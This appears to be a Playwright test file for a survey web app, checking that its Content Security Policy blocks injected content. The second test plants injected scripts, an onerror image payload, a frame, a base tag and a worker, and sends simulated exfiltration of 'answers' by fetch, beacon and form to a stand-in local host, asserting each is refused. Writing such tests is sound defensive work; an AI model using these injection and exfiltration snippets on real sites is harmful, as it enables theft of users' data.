import { test as base } from "@playwright/test";
import { type Lab, startLab } from "./lab.ts";
import { SurveyTab } from "./survey-tab.ts";
import { expect } from "./test.ts";

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

/** A study with enrolment codes, and what the browser refused to do because of the page's policy. */
const test = base.extend<{ lab: Lab; tab: SurveyTab; violations: readonly Violation[] }>({
  lab: async ({ browserName: _ }, use) => {
    await using lab = await startLab({ "0001": "code-of-0001-9f27", "0002": "code-of-0002-77aa" });
    await use(lab);
  },
  tab: async ({ page }, use) => {
    await use(new SurveyTab(page));
  },
  violations: async ({ page }, use) => {
    const seen: Violation[] = [];
    await page.exposeFunction("reportViolation", (directive: string, blocked: string) => {
      seen.push({ directive, blocked });
    });
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        Reflect.get(window, "reportViolation")(effectiveDirective, blockedURI);
      });
    });
    await use(seen);
  },
});

test("the page breaks its policy nowhere, from enrolment to forgetting", async ({ lab, tab, violations }) => {
  await tab.open(lab.page.url, "0001", "#code=code-of-0001-9f27");
  await tab.press("Submit answers");
  await expect(tab.errors).toBeFocused();
  await tab.submit();
  await tab.expectCounts({ waiting: 0, sent: 1 });
  await tab.follow(lab.page.url, "0002", "#code=code-of-0002-77aa");
  await tab.press("Switch to 0002");
  lab.gate.state = "refusing";
  await tab.submit();
  await expect(tab.banner).toContainText("next try at");
  await tab.press("Forget this device");
  await tab.press("Remove everything");
  await expect(tab.page.getByRole("heading", { name: "This device has forgotten you" })).toBeFocused();
  expect(violations).toEqual([]);
});

test("what gets into the page does not run, and carries nothing away", async ({ lab, tab, violations }) => {
  await tab.open(lab.page.url, "0001", "#code=code-of-0001-9f27");
  const elsewhere = "http://127.0.0.1:9/";
  await tab.page.evaluate(async (url) => {
    const inline = document.createElement("script");
    inline.textContent = "document.title = 'injected'";
    const remote = document.createElement("script");
    remote.src = `${url}script.js`;
    const holder = document.createElement("div");
    holder.innerHTML = `<img src="${url}picture.png" onerror="document.title = 'injected'"><p style="color: red">x</p>`;
    const frame = document.createElement("iframe");
    frame.src = url;
    const base = document.createElement("base");
    base.href = url;
    document.body.append(inline, remote, holder, frame, base);
    new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    await fetch(`${url}steal`, { method: "POST", body: "answers" }).catch(() => undefined);
    navigator.sendBeacon(`${url}beacon`, "answers");
  }, elsewhere);
  const blocked = () => new Set(violations.map(({ directive }) => directive));
  await expect
    .poll(blocked)
    .toEqual(
      new Set([
        "script-src-elem",
        "script-src-attr",
        "img-src",
        "style-src-attr",
        "frame-src",
        "base-uri",
        "worker-src",
        "connect-src",
      ]),
    );
  expect(violations.filter(({ directive }) => directive === "script-src-elem")).toHaveLength(2);
  expect(violations.filter(({ directive }) => directive === "connect-src")).toHaveLength(2);
  await expect(tab.page).toHaveTitle("How are you right now?");

  await tab.page.evaluate((url) => {
    const form = document.createElement("form");
    form.action = `${url}form`;
    document.body.append(form);
    form.submit();
  }, elsewhere);
  await expect.poll(blocked).toContain("form-action");
});
